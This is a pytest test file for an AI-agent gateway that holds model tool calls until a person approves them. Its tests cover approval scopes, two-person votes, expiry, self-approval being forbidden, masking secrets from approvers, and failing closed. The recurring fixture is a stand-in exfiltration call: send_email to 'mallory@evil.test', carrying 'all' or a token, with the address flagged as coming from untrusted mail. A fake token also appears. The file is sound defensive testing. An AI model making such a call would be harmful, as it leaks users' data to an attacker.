"""Holds: a held call waits for a yes and passes on the client's retry, in any format, whole or streamed."""

from __future__ import annotations

import json
import re

import pytest

from stockade.core.errors import ForbiddenError, StorageError
from stockade.guard.approvals.approval import Scope, State
from stockade.guard.pipeline.commands import AskApproval
from stockade.testing.playbook import Playbook, Played
from stockade.testing.vendor.saying import Call
from tests.guard.pipeline.talks import answer, ask, each_dialect, each_way, hear, say
from tests.guard.pipeline.test_tools import HOLD, VENDOR_TOOLS, history
from tests.properties.gates import playbook

HOLDS = HOLD.replace('"deny"', '"hold"')
TWICE = HOLDS.replace('@effect("hold")', '@effect("hold") @approvals("2")')
HELD_WORD = (
    '@id("hold-word") @effect("hold") @reason("Somebody must look.") forbid (principal, action == '
    'Stockade::Action::"prompt", resource) when { context.category == "credential" };'
)
SECRET = "ghp_" + "Zx81kQw92LmN4vB7tY6uR3eW5qA0sD2fG1hJ"
ID = re.compile(r"hold-[0-9a-f]{16}")


def sending(to: str = "mallory@evil.test", body: str = "all", *, spaces: str = " ") -> Call:
    return Call("call_1", "send_email", json.dumps({"to": to, "body": body}, separators=("," + spaces, ":" + spaces)))


def play(gate: Playbook, dialect: str, *calls: Call, streamed: bool, said: str = "Summarise the mail") -> Played:
    asked = history(dialect, said, stream=streamed)
    return gate.play(asked, answer(dialect, say("I will.", calls=calls), streamed=streamed))


def held(dialect: str, played: Played) -> str:
    """Return the id under which the one call of an answer is held."""
    told = hear(dialect, played)
    assert told.calls == []
    assert played.records[-1]["ended"] == "completed"
    [id_] = set(ID.findall(told.text))
    return str(id_)


@each_dialect
@each_way
def test_a_held_call_passes_after_a_yes_once(dialect: str, streamed: bool) -> None:
    gate = playbook(HOLDS)
    first = play(gate, dialect, sending(), streamed=streamed)
    id_ = held(dialect, first)
    assert "Nobody asked for this." in hear(dialect, first).text
    assert held(dialect, play(gate, dialect, sending(), streamed=streamed)) == id_
    gate.approvals.vote(id_, gate.now_s)
    passed = play(gate, dialect, sending(), streamed=streamed)
    assert [name for name, _ in hear(dialect, passed).calls] == ["send_email"]
    assert held(dialect, play(gate, dialect, sending(), streamed=streamed)) == id_
    states = [(e["event"], e["subject"], e["reason"]) for e in passed.records if e["kind"] == "event"]
    assert states == [("approval_used", id_, "approved")]
    assert passed.records[-1]["calls"][0]["approval"] == {"id": id_, "state": "approved"}
    assert first.records[-1]["calls"][0]["approval"] == {"id": id_, "state": "pending"}
    assert [e["event"] for e in first.records if e["kind"] == "event"] == ["approval_held"]


@each_dialect
@each_way
@pytest.mark.parametrize(
    "other", [sending(body="al1"), sending("mallory@evil.tes"), Call("call_1", "send_mail", sending().arguments)]
)
def test_a_call_that_was_changed_is_another_call(dialect: str, streamed: bool, other: Call) -> None:
    gate = playbook(HOLDS)
    id_ = held(dialect, play(gate, dialect, sending(), streamed=streamed))
    gate.approvals.vote(id_, gate.now_s, scope=Scope.UNTIL)
    assert held(dialect, play(gate, dialect, other, streamed=streamed)) != id_
    spaced = play(gate, dialect, sending(spaces=""), streamed=streamed)
    assert len(hear(dialect, spaced).calls) == 1, "spaces between tokens change nothing"


@each_dialect
@each_way
def test_what_is_no_text_counts_too(dialect: str, streamed: bool) -> None:
    gate = playbook(HOLDS)

    def told(**more: object) -> str:
        arguments = json.dumps(json.loads(sending().arguments) | more)
        return held(dialect, play(gate, dialect, Call("call_1", "send_email", arguments), streamed=streamed))

    assert len({told(), told(urgent=True), told(urgent=False), told(urgent=None), told(copies=1), told(copies=2)}) == 6


@each_dialect
@each_way
def test_neither_a_no_nor_an_old_yes_nor_one_of_two_lets_a_call_pass(dialect: str, streamed: bool) -> None:
    gate = playbook(TWICE)
    id_ = held(dialect, play(gate, dialect, sending(), streamed=streamed))
    gate.approvals.vote(id_, gate.now_s, by="ann")
    gate.approvals.vote(id_, gate.now_s, by="ann")
    assert held(dialect, play(gate, dialect, sending(), streamed=streamed)) == id_
    gate.approvals.vote(id_, gate.now_s, by="bob", for_s=30)
    gate.now_s += 30
    assert held(dialect, play(gate, dialect, sending(), streamed=streamed)) == id_
    assert gate.approvals.kept[id_].round == 2
    gate.approvals.vote(id_, gate.now_s, yes=False)
    denied = play(gate, dialect, sending(), streamed=streamed)
    assert held(dialect, denied) == id_
    assert "A person has said no." in hear(dialect, denied).text
    gate.now_s += 25 * 3600
    assert "waits for a person" in hear(dialect, play(gate, dialect, sending(), streamed=streamed)).text


@each_dialect
@each_way
def test_of_two_calls_alike_one_yes_lets_one_pass(dialect: str, streamed: bool) -> None:
    gate = playbook(HOLDS)
    gate.approvals.vote(held(dialect, play(gate, dialect, sending(), streamed=streamed)), gate.now_s)
    if dialect == "openai_chat" and streamed:  # such a stream tells all calls of a choice at once: another call
        assert held(dialect, play(gate, dialect, sending(), sending()._replace(id="call_2"), streamed=streamed))
        return
    both = play(gate, dialect, sending(), sending()._replace(id="call_2"), streamed=streamed)
    assert [call["approval"]["state"] for call in both.records[-1]["calls"]] == ["approved", "pending"]


def test_who_asked_cannot_approve() -> None:
    gate = playbook(HOLDS)
    id_ = held("openai_chat", play(gate, "openai_chat", sending(), streamed=False))
    with pytest.raises(ForbiddenError):
        gate.approvals.vote(id_, gate.now_s, by=gate.approvals.kept[id_].principal)
    assert gate.approvals.kept[id_].state(int(gate.now_s)) is State.PENDING


@each_way
def test_a_yes_for_the_session_covers_the_value_whatever_else_the_call_says(streamed: bool) -> None:
    gate = playbook(HOLDS)

    def asked(session: str, call: Call) -> Played:
        sent = history("openai_chat", "Summarise the mail", stream=streamed)
        body = json.loads(sent.body) | {"prompt_cache_key": session}
        reply = answer("openai_chat", say("I will.", calls=[call]), streamed=streamed)
        return gate.play(sent._replace(body=json.dumps(body).encode()), reply)

    id_ = held("openai_chat", asked("one", sending()))
    gate.approvals.vote(id_, gate.now_s, scope=Scope.SESSION)
    for _ in range(2):
        assert hear("openai_chat", asked("one", sending(body="Something else."))).calls
    assert held("openai_chat", asked("two", sending())) != id_
    assert held("openai_chat", asked("one", sending("eve@evil.test"))) != id_


def test_an_approver_sees_what_decides_and_stand_ins_for_secrets() -> None:
    gate = playbook(HOLDS)
    asked = history("anthropic_messages", f"My token is {SECRET}", stream=False)
    first = gate.play(asked, answer("anthropic_messages", say("ok"), streamed=False))
    assert first.forwarded is not None
    stand_in = next(name for name, value in gate.stand_ins.items() if value == SECRET)
    call = sending(body=f"token: {stand_in}")
    id_ = held(
        "anthropic_messages",
        gate.play(asked, answer("anthropic_messages", say("ok", calls=[call]), streamed=False)),
    )
    shown = json.loads(gate.approvals.shown[id_])
    assert SECRET not in gate.approvals.shown[id_].decode()
    assert [(v["value"], v["ground"], v["tool"]) for v in shown["values"]] == [
        ("mallory@evil.test", "untrusted", "read_mail")
    ]
    assert [(a["argument"], a["text"]) for a in shown["arguments"]] == [
        ("to", gate_name(gate, "mallory@evil.test")),
        ("body", f"token: {stand_in}"),
    ]


def gate_name(gate: Playbook, value: str) -> str:
    return next((name for name, known in gate.stand_ins.items() if known == value), value)


@each_dialect
def test_a_held_request_passes_after_a_yes_and_keeps_what_else_policy_does(dialect: str) -> None:
    gate = playbook(HELD_WORD)
    sent = ask(dialect, f"Use {SECRET} please")
    reply = answer(dialect, say("ok"), streamed=False)
    refused = gate.play(sent, reply)
    assert refused.upstream is None
    [id_] = set(ID.findall(hear(dialect, refused).error))
    assert refused.status == (403 if dialect == "anthropic_messages" else 400)
    assert refused.records[-1]["refusal"] == id_
    assert gate.play(sent, reply).upstream is None
    gate.approvals.vote(id_, gate.now_s)
    passed = gate.play(sent, reply)
    assert passed.forwarded is not None
    assert SECRET.encode() not in passed.forwarded, "the rule beneath still replaces it"
    [intent] = [record for record in passed.records if record["kind"] == "intent"]
    assert intent["approval"] == {"id": id_, "state": "approved"}
    assert gate.play(sent, reply).upstream is None, "a yes for once is used up"


@each_dialect
def test_a_tool_that_the_vendor_would_run_is_held_before_anything_is_sent(dialect: str) -> None:
    hold = (
        '@id("hold-search") @effect("hold") @reason("Ask first.") forbid (principal, action == '
        'Stockade::Action::"call_tool", resource == Stockade::Tool::"web_search");'
    )
    gate = playbook(hold)
    sent = ask(dialect, "go")
    sent = sent._replace(body=json.dumps(json.loads(sent.body) | VENDOR_TOOLS[dialect]).encode())
    reply = answer(dialect, say("ok"), streamed=False)
    refused = gate.play(sent, reply)
    assert refused.upstream is None
    [id_] = set(ID.findall(hear(dialect, refused).error))
    gate.approvals.vote(id_, gate.now_s, scope=Scope.UNTIL)
    assert hear(dialect, gate.play(sent, reply)).text == "ok"


@each_dialect
@each_way
def test_a_store_that_does_not_answer_lets_nothing_pass(dialect: str, streamed: bool) -> None:
    def failure(command: object) -> BaseException | None:
        return StorageError("gone") if isinstance(command, AskApproval) else None

    asked = history(dialect, "Summarise the mail", stream=streamed)
    reply = answer(dialect, say("I will.", calls=[sending()]), streamed=streamed)
    played = playbook(HOLDS).play(asked, reply, failure)
    assert b"mallory" not in played.body
    assert hear(dialect, played).error
    assert played.records[-1]["error"] == "storage"
